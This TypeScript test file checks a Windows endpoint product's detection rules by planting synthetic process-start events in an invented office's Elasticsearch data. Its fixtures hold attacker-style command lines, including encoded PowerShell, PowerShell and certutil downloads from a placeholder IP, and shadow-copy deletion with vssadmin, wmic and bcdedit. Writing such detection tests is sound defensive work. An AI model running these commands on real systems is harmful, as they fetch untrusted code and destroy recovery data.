/**
 * Goal: each detection rule finds what it is for and leaves an ordinary office alone. Method: a month of an invented office on a real
 * Elasticsearch, with starts planted on its last day that went through the agent's mapper; each rule's request, as Kibana would send it.
 */
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { type ProcessStart, processStartSchema } from '@launchbeat/ecs-schemas';
import { createMapper } from '../../../agent/src/map/create-mapper.ts';
import { mapConfigSchema } from '../../../agent/src/map/map-config.ts';
import { testElasticsearch, uniqueNamespace } from '../../../tests/support/elasticsearch.ts';
import { type Json, objectOf, textOf } from '../check/json.ts';
import { officeMonth } from '../office/office-month.ts';
import { type FilledStream, filledStream } from '../panels/filled-stream.ts';
import { rulesText } from './detection-rules.ts';
import { runRule } from './run-rule.ts';

/** What sets one start apart; the rest is an ordinary start by Анна on her PC. */
interface Planted {
  readonly executable: string;
  readonly parent?: string;
  readonly commandLine?: string;
  readonly user?: string;
  readonly sid?: string;
  readonly host?: string;
  readonly isElevated?: boolean;
}

const AGENT = {
  id: '6f1c1f5e-7d9d-4f3e-9d39-00000000aaaa',
  name: 'planted',
  version: '0.1.0',
  ephemeralId: '6f1c1f5e-7d9d-4f3e-9d39-00000000bbbb',
};
const EVERYTHING = {
  select: 'all',
  exclude: { system_accounts: false, helper_processes: false },
};

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

function eventXml(planted: Planted, record: number, time: Date): string {
  const { executable, parent = 'C:\\Windows\\explorer.exe', isElevated = false } = planted;
  const data = {
    SubjectUserSid: planted.sid ?? 'S-1-5-21-1004336348-1177238915-682003330-4001',
    SubjectUserName: planted.user ?? 'Анна',
    SubjectDomainName: 'ACME',
    SubjectLogonId: '0x5a1c3',
    NewProcessId: '0x1f40',
    NewProcessName: executable,
    TokenElevationType: isElevated ? '%%1937' : '%%1938',
    ProcessId: '0x3e8',
    CommandLine: planted.commandLine ?? `"${executable}"`,
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    TargetLogonId: '0x0',
    ParentProcessName: parent,
    MandatoryLabel: isElevated ? 'S-1-16-12288' : 'S-1-16-8192',
  };
  const lines = Object.entries(data).map(
    ([name, value]) => `<Data Name='${name}'>${escaped(value)}</Data>`,
  );
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='${time.toISOString()}'/><EventRecordID>${record}</EventRecordID><Execution ProcessID='4' ThreadID='412'/><Channel>Security</Channel><Computer>${planted.host ?? 'PC-900'}</Computer><Security/></System><EventData>${lines.join('')}</EventData></Event>`;
}

/** Documents of the starts, in their order, one a second from `from` on. */
function plantedStarts(
  planted: readonly Planted[],
  { from, namespace }: { readonly from: Date; readonly namespace: string },
): ProcessStart[] {
  const config = mapConfigSchema.parse(EVERYTHING);
  const mapper = createMapper({ config, agent: AGENT, namespace });
  return planted.map((one, index) => {
    const time = new Date(from.getTime() + index * 1000);
    const mapped = mapper.map({ xml: eventXml(one, 900_000 + index, time), readAtMs: 0 });
    assert(mapped.outcome === 'done', `${one.executable}: ${JSON.stringify(mapped)}`);
    return processStartSchema.parse(mapped.document);
  });
}

const END = new Date('2026-11-20T18:00:00Z');
const DAY_MS = 86_400_000;
const HOUR_MS = DAY_MS / 24;
/** The rarities of the invented office are in its last six days; the week before is ordinary. */
const ORDINARY_DAYS = 7;
const ORDINARY_END = new Date(END.getTime() - 6.75 * DAY_MS);
/** Alerts a day that an office of 50 PCs can be asked to look at, for one rule. */
const QUIET_A_DAY = 3;

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';

/** Rule name → starts that it must find, each by itself. */
const PLANTED: Readonly<Record<string, readonly Planted[]>> = {
  'PowerShell with an encoded command': [
    { executable: POWERSHELL, commandLine: 'powershell.exe -NoP -eNc UwB0AGEAcgB0AA==' },
    { executable: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', commandLine: 'pwsh /ec UwB0AA==' },
  ],
  'PowerShell that hides or downloads': [
    { executable: POWERSHELL, commandLine: 'PowerShell.exe -WindowStyle Hidden -File C:\\a.ps1' },
    {
      executable: POWERSHELL,
      commandLine: `powershell "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a','a')"`,
    },
  ],
  'Office program started a shell or a script host': [
    { executable: `${SYSTEM32}\\cmd.exe`, parent: `${OFFICE}\\WINWORD.EXE` },
    { executable: `${SYSTEM32}\\wscript.exe`, parent: `${OFFICE}\\excel.exe` },
    { executable: `${SYSTEM32}\\regsvr32.exe`, parent: `${OFFICE}\\POWERPNT.EXE` },
  ],
  'Office program started a program from a writable folder': [
    {
      executable: 'C:\\Users\\anna\\AppData\\Roaming\\viewer.exe',
      parent: `${OFFICE}\\OUTLOOK.EXE`,
    },
  ],
  'Person started a program from a folder for downloads': [
    { executable: 'C:\\Users\\anna\\Downloads\\setup.exe' },
    { executable: 'C:\\Users\\anna\\AppData\\Local\\Temp\\7zO4\\run.exe' },
    { executable: 'C:\\Users\\Public\\x.exe' },
  ],
  'Watched program started by a service account': [
    { executable: CHROME, user: 'svc_backup', sid: 'S-1-5-21-1-2-3-5001', parent: 'C:\\a.exe' },
    { executable: CHROME, user: 'SYSTEM', sid: 'S-1-5-18', parent: `${SYSTEM32}\\services.exe` },
    { executable: CHROME, user: 'gmsa-web$', sid: 'S-1-5-21-1-2-3-5002', parent: 'C:\\a.exe' },
  ],
  'Program that poses as a document': [{ executable: 'D:\\Почта\\Счёт.PDF   .exe' }],
  'Backups or shadow copies deleted': [
    {
      executable: `${SYSTEM32}\\vssadmin.exe`,
      commandLine: 'C:\\Windows\\System32\\VSSADMIN.EXE Delete Shadows /all /quiet',
    },
    { executable: `${SYSTEM32}\\wbem\\WMIC.exe`, commandLine: 'wmic shadowcopy delete' },
    {
      executable: `${SYSTEM32}\\bcdedit.exe`,
      commandLine: 'bcdedit.exe /set {default} recoveryenabled no',
    },
  ],
  'Remote access tool': [{ executable: 'D:\\AnyDesk.exe' }],
  'Borrowed Windows program with a web address': [
    {
      executable: `${SYSTEM32}\\certutil.exe`,
      commandLine: 'certutil -urlcache -f https://192.0.2.7/b.bin b.exe',
    },
  ],
  'Elevated shell of a person': [{ executable: `${SYSTEM32}\\cmd.exe`, isElevated: true }],
  'Secret on a command line': [
    {
      executable: 'C:\\Program Files\\curl\\curl.exe',
      commandLine: 'curl --user admin:Winter2026 https://example.org',
    },
  ],
  'Very long command line': [
    { executable: 'C:\\Program Files\\a\\a.exe', commandLine: `a.exe ${'x'.repeat(1200)}` },
  ],
};

const SPREAD_SID = 'S-1-5-21-1-2-3-6001';
const SPREAD: readonly Planted[] = [1, 2, 3, 4, 5].map((pc) => ({
  executable: `${SYSTEM32}\\notepad.exe`,
  user: 'Чужой',
  sid: SPREAD_SID,
  host: `PC-80${pc}`,
}));
const NEVER_RUN = 'D:\\Portable\\tool.exe';

let stream: FilledStream;
const rules = new Map<string, Json>();
const planted = new Map<string, ProcessStart[]>();
const lastHour = { from: new Date(END.getTime() - HOUR_MS), to: new Date(END.getTime() + 1) };

before(async () => {
  for (const line of rulesText().trimEnd().split('\n').slice(0, -1)) {
    const rule = objectOf(JSON.parse(line));
    rules.set(textOf(rule['name']).replace('[Launchbeat] ', ''), rule);
  }
  const { url } = await testElasticsearch();
  const namespace = uniqueNamespace();
  const starts = [...Object.values(PLANTED).flat(), ...SPREAD, { executable: NEVER_RUN }];
  const from = new Date(END.getTime() - HOUR_MS / 2);
  const documents = plantedStarts(starts, { from, namespace });
  let next = 0;
  for (const [name, list] of Object.entries(PLANTED)) {
    planted.set(name, documents.slice(next, next + list.length));
    next += list.length;
  }
  stream = await filledStream({ url, namespace }, [
    ...officeMonth({ end: END, namespace }),
    ...documents,
  ]);
});

for (const name of Object.keys(PLANTED)) {
  test(`"${name}" finds every start that was planted for it`, async () => {
    const rule = rules.get(name);
    assert.ok(rule, 'no such rule');
    const found = new Set(await runRule(rule, stream, lastHour));
    const missed = planted.get(name)?.filter(({ event }) => !found.has(event.id));
    assert.deepEqual(
      missed?.map(({ process }) => process.command_line),
      [],
    );
  });
}

test('"One person on many PCs" finds the one who is on five, and nobody else', async () => {
  const rule = rules.get('One person on many PCs');
  assert.ok(rule);
  assert.deepEqual(await runRule(rule, stream, lastHour), [`${SPREAD_SID} | Чужой`]);
});

test('"First start of a program by a person" finds a program that the person never ran', async () => {
  const rule = rules.get('First start of a program by a person');
  assert.ok(rule);
  const found = await runRule(rule, stream, lastHour);
  assert.ok(found.some((one) => one.endsWith(`| ${NEVER_RUN}`)));
});

test('every rule has starts planted for it', () => {
  const tried = new Set([
    ...Object.keys(PLANTED),
    'One person on many PCs',
    'First start of a program by a person',
  ]);
  assert.deepEqual([...rules.keys()].toSorted(), [...tried].toSorted());
});

test('on ordinary days of 50 PCs no rule is loud', async (t) => {
  const counts: string[] = [];
  const loud: string[] = [];
  for (const [name, rule] of rules) {
    const days: number[] = [];
    for (let day = ORDINARY_DAYS; day > 0; day -= 1) {
      const from = new Date(ORDINARY_END.getTime() - day * DAY_MS);
      const found = await runRule(rule, stream, { from, to: new Date(from.getTime() + DAY_MS) });
      days.push(found.length);
    }
    counts.push(`${days.join(' ')}  ${name}`);
    if (days.reduce((sum, one) => sum + one, 0) > QUIET_A_DAY * ORDINARY_DAYS) loud.push(name);
  }
  t.diagnostic(`alerts a day:\n${counts.join('\n')}`);
  assert.deepEqual(loud, []);
});
